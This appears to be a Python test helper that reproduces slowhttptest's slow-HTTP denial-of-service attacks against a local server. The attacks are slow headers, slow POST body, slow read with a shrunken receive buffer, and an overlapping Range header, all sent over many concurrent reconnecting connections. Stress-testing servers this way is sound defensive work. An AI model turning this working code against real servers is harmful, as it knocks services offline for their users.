"""Slow peers, as many as asked for, on one event loop: what slowhttptest does, for where that can't be had.

Each holds a connection as long as the server lets it, and comes again when it was closed.
"""

import asyncio
import contextlib
import socket
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass

TRICKLE = 1.0
"""Seconds between two small pieces."""

RANGES = b",".join(b"5-%d" % end for end in range(6, 1200))


@dataclass(frozen=True)
class Attack:
    """What an attacker does on a connection.

    Attributes:
        letter: slowhttptest's name for it.
        opening: what it sends at once.
        trickle: what it sends again and again, or nothing.
        reads: octets that it takes at a time; if few, then with a pause.
        buffer: octets of its receive buffer; 0 for the usual one.
    """

    letter: str
    opening: bytes
    trickle: bytes = b""
    reads: int = 65536
    buffer: int = 0


ATTACKS = {
    "head": Attack("H", b"GET / HTTP/1.1\r\nHost: site\r\n", b"X-a: b\r\n"),
    "body": Attack(
        "B",
        b"POST / HTTP/1.1\r\nHost: site\r\nContent-Length: 4096\r\nContent-Type: text/plain\r\n\r\nfoo=bar",
        b"&a=b",
    ),
    # Several at once: the first answers find room in the buffers of the kernel.
    "read": Attack("X", 8 * b"GET /large HTTP/1.1\r\nHost: site\r\n\r\n", reads=5, buffer=256),
    "range": Attack("R", b"HEAD / HTTP/1.1\r\nHost: site\r\nRange: bytes=0-," + RANGES + b"\r\n\r\n"),
}


@contextlib.asynccontextmanager
async def attackers(attack: Attack, port: int, number: int, rate: float) -> AsyncIterator[Callable[[], int]]:
    """Attack while the block runs. Gives what tells how many connections are held.

    Arguments:
        attack: one of ATTACKS.
        port: of the server, on 127.0.0.1.
        number: of connections at once.
        rate: connections opened a second.
    """
    held: set[int] = set()
    tasks = [asyncio.ensure_future(_attack(attack, port, index / rate, held, index)) for index in range(number)]
    try:
        yield lambda: len(held)
    finally:
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)


async def _attack(attack: Attack, port: int, wait: float, held: set[int], me: int) -> None:
    await asyncio.sleep(wait)
    while True:
        with contextlib.suppress(OSError):
            await _hold(attack, port, held, me)
        held.discard(me)
        await asyncio.sleep(TRICKLE)


async def _hold(attack: Attack, port: int, held: set[int], me: int) -> None:
    """Hold one connection until the server ends it."""
    loop = asyncio.get_running_loop()
    with socket.socket() as sock:
        sock.setblocking(False)
        if attack.buffer:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, attack.buffer)
        await loop.sock_connect(sock, ("127.0.0.1", port))
        held.add(me)
        await loop.sock_sendall(sock, attack.opening)
        while True:
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(TRICKLE):
                    if not await loop.sock_recv(sock, attack.reads):
                        return
                if attack.reads < len(attack.opening):
                    await asyncio.sleep(TRICKLE)
            if attack.trickle:
                await loop.sock_sendall(sock, attack.trickle)
